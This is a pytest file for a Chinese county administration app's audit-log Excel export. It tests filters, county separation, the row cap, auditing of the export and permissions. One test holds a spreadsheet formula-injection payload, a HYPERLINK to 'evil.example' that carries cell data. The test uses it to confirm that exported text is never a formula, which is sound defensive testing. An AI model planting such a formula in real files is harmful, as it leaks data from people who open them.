"""The audit log export: the list page's filters, the county's records only, the cap, no formulas, audited."""

import datetime as dt
import io
import json
import zipfile
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from tests.factories import signed_in_client
from xiangzhi import policy
from xiangzhi.audit import excel
from xiangzhi.audit.models import AuditRecord
from xiangzhi.audit.services import record
from xiangzhi.core import clock
from xiangzhi.regions.services import region_create

pytestmark = pytest.mark.django_db

URL = "/audit/export.xlsx"
HEADER = ("时间（北京时间）", "链", "序号", "操作人", "动作", "对象", "辖区", "结果", "来源地址", "变更")


@pytest.fixture
def log(township):
    """A record of the township's county at a known time, a refusal in it, and a record of another county."""
    other = region_create(code="141030", name="大宁县")
    with clock.frozen(dt.datetime(2026, 3, 1, 10, 0, tzinfo=dt.UTC)):
        record("tests.march", township.village_a, changes={"note": "三月", "n": 2}, object_repr="南山村")
    with clock.frozen(dt.datetime(2026, 3, 2, 16, 30, tzinfo=dt.UTC)):  # 2026-03-03 00:30 in Shanghai
        record("tests.refused", township.village_b, result="denied")
    record("tests.other_county", other, object_repr="大宁县的记录")
    return township, other


def _sheets(content: bytes) -> dict[str, list[tuple]]:
    wb = load_workbook(io.BytesIO(content))
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in wb.worksheets}


def _export(client, query: str = "") -> list[tuple]:
    response = client.get(URL + query)
    assert response.status_code == 200, response.content.decode()[:300]
    return _sheets(response.content)["审计日志"]


def _actions(rows) -> list[str]:
    return [r[4] for r in rows[1:]]


def test_columns_time_in_shanghai_and_changes_as_json(log, make_user):
    township, _other = log
    admin = make_user("audit_admin")
    response = signed_in_client(admin).get(URL + "?action=tests.")
    assert response["Content-Disposition"] == (
        "attachment; filename*=UTF-8''" + quote(f"审计日志_{clock.today():%Y%m%d}.xlsx")
    )
    sheets = _sheets(response.content)
    assert list(sheets) == ["审计日志", "导出说明"]
    rows = sheets["审计日志"]
    assert rows[0] == HEADER
    march = AuditRecord.objects.get(action="tests.march")
    refused = AuditRecord.objects.get(action="tests.refused")
    assert rows[-2:] == [
        (
            "2026-03-03 00:30:00",
            "141029",
            refused.seq,
            "system",
            "tests.refused",
            "北坡村",
            township.village_b.code,
            "拒绝",
            None,
            "{}",
        ),
        (
            "2026-03-01 18:00:00",
            "141029",
            march.seq,
            "system",
            "tests.march",
            "南山村",
            township.village_a.code,
            "成功",
            None,
            '{"n": 2, "note": "三月"}',
        ),
    ]
    notes = dict(sheets["导出说明"])
    assert notes["动作（前缀）"] == "tests." and notes["导出条数"] == 3 and notes["是否截断"].startswith("否")


def test_the_export_is_audited_and_shows_up_in_the_next_one(log, make_user):
    township, _other = log
    admin = make_user("audit_admin")
    client = signed_in_client(admin)
    _export(client, "?result=denied&from=2026-03-01&to=2026-03-31&actor=sys")
    rec = AuditRecord.objects.get(action="audit.log_exported")
    assert (rec.actor_id, rec.result, rec.region_code, rec.chain, rec.ip) == (
        admin.pk,
        "ok",
        "",
        "000000",
        "10.1.1.1",
    )
    assert rec.changes == {
        "rows": 1,
        "truncated": False,
        "filters": {
            "action": "",
            "result": "denied",
            "date_from": "2026-03-01",
            "date_to": "2026-03-31",
            "actor": "sys",
        },
    }
    row = next(r for r in _export(client, "?action=audit.log_exported")[1:])
    assert row[3] == f"{admin.full_name}（{admin.username}）"
    assert (row[4], row[5], row[7], row[8]) == ("audit.log_exported", "审计日志导出", "成功", "10.1.1.1")
    assert json.loads(row[9])["filters"]["result"] == "denied"


def test_filters_are_the_list_pages(log, make_user):
    client = signed_in_client(make_user("audit_admin"))
    assert _actions(_export(client, "?result=denied")) == ["tests.refused"]
    assert _actions(_export(client, "?action=tests.march")) == ["tests.march"]
    assert _actions(_export(client, "?action=tests.&from=2026-03-01&to=2026-03-01")) == ["tests.march"]
    # the local (Shanghai) day: 16:30 UTC on the 2nd is the 3rd
    assert _actions(_export(client, "?action=tests.&from=2026-03-03&to=2026-03-03")) == ["tests.refused"]
    assert _actions(_export(client, "?action=tests.&to=2026-02-28")) == []
    assert _actions(_export(client, "?action=tests.&actor=nobody-like-this")) == []
    assert "tests.other_county" in _actions(_export(client, "?actor=system"))
    # the same records, in the same order, as the page lists
    page = client.get("/audit/?action=tests.").content.decode()
    exported = _actions(_export(client, "?action=tests."))
    assert exported == sorted(exported, key=page.index) and len(exported) == 3


def test_a_county_audit_administrator_never_gets_another_countys_records(log, make_user):
    township, other = log
    admin = make_user("audit_admin", township.county)
    client = signed_in_client(admin)
    everything = _export(client)
    assert "tests.march" in _actions(everything)
    assert {r[1] for r in everything[1:]} == {"141029"}
    # the filters such an administrator would use to look for the other county's record
    for query in ("?action=tests.other", "?action=tests.other_county", "?actor=system", "?result=ok"):
        rows = _export(client, query)
        assert "tests.other_county" not in _actions(rows), query
        assert all("大宁县" not in str(cell) for row in rows for cell in row), query
    # his export goes to his county's chain, where his county's auditors read it
    rec = AuditRecord.objects.filter(action="audit.log_exported").latest("id")
    assert (rec.region_code, rec.chain) == ("141029", "141029")


def test_cut_at_the_cap_and_the_sheet_says_so(log, make_user, monkeypatch):
    monkeypatch.setattr(excel, "MAX_ROWS", 5)
    for i in range(6):
        record("tests.bulk", None, region_code="", changes={"i": i})
    client = signed_in_client(make_user("audit_admin"))

    # exactly the cap: everything, not cut
    AuditRecord.objects.filter(action="tests.bulk", changes__i=0).update(action="tests.old_bulk")
    sheets = _sheets(client.get(URL + "?action=tests.bulk").content)
    rows = sheets["审计日志"]
    assert len(rows) == 1 + 5 and [json.loads(r[9])["i"] for r in rows[1:]] == [5, 4, 3, 2, 1]
    assert dict(sheets["导出说明"])["是否截断"].startswith("否")
    assert AuditRecord.objects.filter(action="audit.log_exported").latest("id").changes["truncated"] is False

    # one more than the cap: the newest five, a note at the end, the sheet named for it
    AuditRecord.objects.filter(action="tests.old_bulk").update(action="tests.bulk")
    sheets = _sheets(client.get(URL + "?action=tests.bulk").content)
    assert list(sheets) == ["审计日志（已截断）", "导出说明"]
    rows = sheets["审计日志（已截断）"]
    assert len(rows) == 1 + 5 + 1
    assert [json.loads(r[9])["i"] for r in rows[1:6]] == [5, 4, 3, 2, 1]
    assert rows[-1][0].startswith("已截断：只导出了最新的 5 条记录")
    assert dict(sheets["导出说明"])["是否截断"].startswith("已截断")
    rec = AuditRecord.objects.filter(action="audit.log_exported").latest("id")
    assert (rec.changes["rows"], rec.changes["truncated"]) == (5, True)


def test_the_default_cap_is_fifty_thousand():
    assert excel.MAX_ROWS == 50_000


FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击")'


def test_typed_text_is_never_a_formula_and_odd_characters_do_not_break_it(log, make_user):
    township, _other = log
    record("tests.typed", township.village_a, object_repr=FORMULA, changes={"name": "=1+1"})
    record("tests.typed", township.village_a, object_repr="响铃\x07户")
    record("tests.typed", township.village_a, changes={"text": "长" * 40_000})
    response = signed_in_client(make_user("audit_admin")).get(URL + "?action=tests.typed")
    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
        sheets_xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets_xml
    rows = _sheets(response.content)["审计日志"]
    long, odd, typed = rows[1:]
    assert typed[5] == FORMULA and json.loads(typed[9]) == {"name": "=1+1"}
    assert odd[5] == "响铃\ufffd户"
    assert len(long[9]) == excel.CELL_LIMIT and long[9].endswith("已截断；完整内容见审计记录详情页）")


def test_others_may_not_export_and_the_refusal_is_audited(log, make_user):
    township, _other = log
    leader = signed_in_client(make_user("town_leader", township.town))
    response = leader.get(URL)
    assert response.status_code == 403
    assert "您没有权限" in response.content.decode()
    assert AuditRecord.objects.filter(action="audit.view", result="denied").count() == 1
    assert not AuditRecord.objects.filter(action="audit.log_exported").exists()
    assert leader.post(URL).status_code == 405


def test_the_list_page_links_the_export_with_its_filters(log, make_user):
    client = signed_in_client(make_user("audit_admin"))
    body = client.get("/audit/?result=denied&action=tests.").content.decode()
    assert f'href="{URL}?result=denied&amp;action=tests."' in body
    assert "最多导出最新的 50000 条" in body


def test_query_count_does_not_grow_with_the_log(log, make_user, django_assert_num_queries):
    admin = make_user("audit_admin")
    policy.assignments(admin)  # cached on the user, as in a request
    # the records (actor joined); then the export's own record (head lock, insert, head update; no savepoint)
    with django_assert_num_queries(4):
        small = excel.audit_log_export(user=admin, action="tests.")
    for i in range(40):
        record("tests.more", None, region_code="141029", actor=admin, changes={"i": i})
    with django_assert_num_queries(4):
        large = excel.audit_log_export(user=admin, action="tests.")
    assert (small.rows, large.rows) == (3, 43)
